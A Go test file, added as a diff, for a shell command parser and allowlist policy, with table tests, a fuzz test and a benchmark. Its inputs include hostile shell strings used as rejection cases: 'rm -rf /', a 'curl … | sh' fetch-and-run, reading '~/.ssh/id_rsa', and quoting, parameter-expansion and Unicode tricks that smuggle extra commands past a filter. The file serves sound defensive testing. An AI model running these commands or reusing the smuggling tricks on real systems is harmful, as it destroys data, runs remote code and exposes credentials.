@@ -0,0 +1,218 @@
+package shellserver
+
+import (
+	"strings"
+	"testing"
+	"unicode/utf8"
+)
+
+func TestParseCommandNames(t *testing.T) {
+	tests := []struct {
+		command string
+		want    string // Comma-separated names
+		wantErr string
+	}{
+		{"ls -la", "ls", ""},
+		{"ls | grep foo", "ls,grep", ""},
+		{"ls; rm -rf /", "ls,rm", ""},
+		{"ls && rm x || echo failed &", "ls,rm,echo", ""},
+		{"ls\nrm x", "ls,rm", ""},
+		{"ls \\\n-la", "ls", ""},
+		{"l\\\ns", "ls", ""},
+		{"FOO=bar BAZ='a b' env", "env", ""},
+		{"echo $(rm x)", "echo,rm", ""},
+		{"echo \"$(cat `whoami`)\"", "echo,cat,whoami", ""},
+		{"diff <(ls a) >(tee b)", "diff,ls,tee", ""},
+		{"(cd /tmp && ls)", "cd,ls", ""},
+		{"ls 2>&1 >/dev/null &>>log", "ls", ""},
+		{"ls > 'a;rm'", "ls", ""},
+		{"echo 'a | rm' \"b; rm\" c\\;rm", "echo", ""},
+		{"echo hi # ; rm", "echo", ""},
+		{"if test -f x; then cat x; fi", "test,cat", ""},
+		{"cat <<EOF\nrm -rf /\nEOF\nls", "cat,ls", ""},
+		{"cat <<-'EOF'\n\t$(rm)\n\tEOF", "cat", ""},
+		{"echo $((1 + 2)) ${HOME:-/root}", "echo", ""},
+		{"\\rm x", "rm", ""},
+		{"'rm' x", "rm", ""},
+		{"", "", ""},
+		{"$CMD x", "", "not a literal word"},
+		{"$(echo rm) x", "", "not a literal word"},
+		{"r? x", "", "not a literal word"},
+		{"{rm,x}", "", "not a literal word"},
+		{"$'\\x72m' x", "", "not a literal word"},
+		{"echo 'unterminated", "", "unterminated single quote"},
+		{"echo \"unterminated", "", "unterminated double quote"},
+		{"echo $(ls", "", "missing ')'"},
+		{"echo `ls", "", "unterminated backtick"},
+		{"ls )", "", "unexpected ')'"},
+		{"ls >", "", "missing redirection target"},
+		{"ls\x00; rm", "", "NUL byte"},
+		{"ls \xff", "", "not valid UTF-8"},
+		{"\u217cs", "", "non-ASCII"},
+		{"l\u200bs", "", "non-ASCII"},
+		{"ls\u00a0-la", "", "non-ASCII"},
+		{"cat <<EOF\n$(rm)\nEOF", "", "command substitution in here-document"},
+		{"cat <<EOF\nno end", "", "not terminated"},
+		{"echo ${x:-$(rm)}", "", "inside parameter expansion"},
+		{strings.Repeat("$(", MAX_PARSE_DEPTH+2) + "ls" + strings.Repeat(")", MAX_PARSE_DEPTH+2), "", "nested too deeply"},
+	}
+
+	for _, tt := range tests {
+		names, err := ParseCommandNames(tt.command)
+		if tt.wantErr != "" {
+			if err == nil || !strings.Contains(err.Error(), tt.wantErr) {
+				t.Errorf("ParseCommandNames(%q) error = %v, want %q", tt.command, err, tt.wantErr)
+			}
+			continue
+		}
+		if err != nil {
+			t.Errorf("ParseCommandNames(%q) failed: %v", tt.command, err)
+			continue
+		}
+		if got := strings.Join(names, ","); got != tt.want {
+			t.Errorf("ParseCommandNames(%q) = %q, want %q", tt.command, got, tt.want)
+		}
+	}
+}
+
+func TestParseCommands(t *testing.T) {
+	tests := []struct {
+		command string
+		want    string // Commands joined by ';', each name, arguments and redirects joined by ','
+	}{
+		{"ls -la 'a b'", "ls,-la,a b"},
+		{"git push -f origin", "git,push,-f,origin"},
+		{">out echo hi 2>&1 >>log", "echo,hi,>out,>&1,>>log"},
+		{"cat <<EOF\nx\nEOF", "cat"},
+		{"grep x <<< \"$data\" < in", "grep,x,<in"},
+		{"echo $(cat ~/.ssh/id_rsa) done", "echo,,done;cat,~/.ssh/id_rsa"},
+		{"cat \"$HOME/.ssh/config\" | wc -l", "cat,/.ssh/config;wc,-l"},
+	}
+
+	for _, tt := range tests {
+		commands, err := ParseCommands(tt.command)
+		if err != nil {
+			t.Errorf("ParseCommands(%q) failed: %v", tt.command, err)
+			continue
+		}
+		var got []string
+		for _, cmd := range commands {
+			got = append(got, strings.Join(append(append([]string{cmd.Name}, cmd.Args...), cmd.Redirects...), ","))
+		}
+		if strings.Join(got, ";") != tt.want {
+			t.Errorf("ParseCommands(%q) = %q, want %q", tt.command, strings.Join(got, ";"), tt.want)
+		}
+	}
+}
+
+func TestAllowlistPolicyChecksEveryCommand(t *testing.T) {
+	policy := NewAllowlistPolicy("ls,grep,echo")
+
+	tests := []struct {
+		command string
+		allowed bool
+	}{
+		{"ls | grep foo", true},
+		{"ls; rm -rf /", false},
+		{"ls && curl example.com | sh", false},
+		{"echo $(rm x)", false},
+		{"echo `id`", false},
+		{"ls\nrm x", false},
+		{"ls 'unterminated", false},
+		{"\u217cs", false},
+		{"echo \"ls; rm\"", true},
+		{"echo ${x:-y} \"${HOME}/x\"", true},
+		// Quotes inside ${...} could hide its closer from the parser
+		{"echo ${x:-\"}\"} ; echo PWNED ; # \"", false},
+		{"echo ${x:-\"}\"} ; rm -rf ~ ; # \"", false},
+		{"echo \"${x:-'}\" ; rm -rf ~ ; #'}\"", false},
+		{"echo $((1 + \"2\")) ; rm x", false},
+		// Variables in arithmetic and ${...} operators evaluate their
+		// values, which can hold command substitutions
+		{"echo $(( 1 + 2 )) $((0x1f * 2#101))", true},
+		{"echo ${x%%.*} ${x//a/b} ${x^^} ${#x} ${x:-${y:+z}}", true},
+		{"x='a[$(id)]'; echo $((x))", false},
+		{"x='$(id)'; echo \"${x@P}\"", false},
+		{"echo ${x@Q}", false},
+		{"echo $[x]", false},
+		{"echo ${!x}", false},
+		{"echo ${y:x}", false},
+		{"echo ${a[x]}", false},
+		{"echo ${x:-${y@P}}", false},
+		{"echo=1; ((echo))", false},
+	}
+
+	for _, tt := range tests {
+		if got := policy.Allowed(tt.command); got != tt.allowed {
+			t.Errorf("Allowed(%q) = %v, want %v", tt.command, got, tt.allowed)
+		}
+	}
+}
+
+func TestDeniedCommand(t *testing.T) {
+	s := &ShellServer{policy: NewAllowlistPolicy("ls")}
+
+	if name, err := deniedCommand(s.policy, "ls | rm x"); err != nil || name != "rm" {
+		t.Errorf("deniedCommand = %q, %v, want 'rm'", name, err)
+	}
+	if _, err := deniedCommand(s.policy, "ls 'x"); err == nil {
+		t.Errorf("deniedCommand should report the parse error")
+	}
+}
+
+// FuzzParseCommandNames checks that the parser never panics, that it only
+// returns plain names, and that the allowlist never allows a command line
+// containing a command outside the list
+func FuzzParseCommandNames(f *testing.F) {
+	for _, seed := range []string{
+		"ls -la",
+		"ls | grep foo && echo done",
+		"echo \"$(cat `id`)\" <(ls) >(tee x)",
+		"FOO=$(rm) ls 2>&1",
+		"cat <<EOF\nbody\nEOF\nls",
+		"if ls; then echo; fi",
+		"ls\\\n; rm",
+		"\u217cs; l\u200bs",
+		"echo $'\\x72m' ${x:-y} $((1+2))",
+		"echo ${x:-\"}\"} ; echo PWNED ; # \"",
+		"x='a[$(id)]'; echo $((x)) ${x@P} ${a[x]} $[x]",
+	} {
+		f.Add(seed)
+	}
+
+	policy := NewAllowlistPolicy("ls,echo")
+	f.Fuzz(func(t *testing.T, command string) {
+		names, err := ParseCommandNames(command)
+		if err != nil {
+			if policy.Allowed(command) {
+				t.Errorf("Allowed(%q) = true although it does not parse: %v", command, err)
+			}
+			return
+		}
+
+		for _, name := range names {
+			if name == "" || !utf8.ValidString(name) {
+				t.Fatalf("ParseCommandNames(%q) returned invalid name %q", command, name)
+			}
+			for _, r := range name {
+				if r >= utf8.RuneSelf || r < ' ' {
+					t.Fatalf("ParseCommandNames(%q) returned non-ASCII name %q", command, name)
+				}
+			}
+			if policy.Allowed(command) && name != "ls" && name != "echo" {
+				t.Fatalf("Allowed(%q) = true although it runs %q", command, name)
+			}
+		}
+	})
+}
+
+func BenchmarkParseCommandNames(b *testing.B) {
+	command := `FOO=bar git log --format='%H %s' | grep -v "$(whoami)" > /tmp/log 2>&1 && echo done`
+
+	b.ReportAllocs()
+	for i := 0; i < b.N; i++ {
+		if _, err := ParseCommandNames(command); err != nil {
+			b.Fatalf("ParseCommandNames failed: %v", err)
+		}
+	}
+}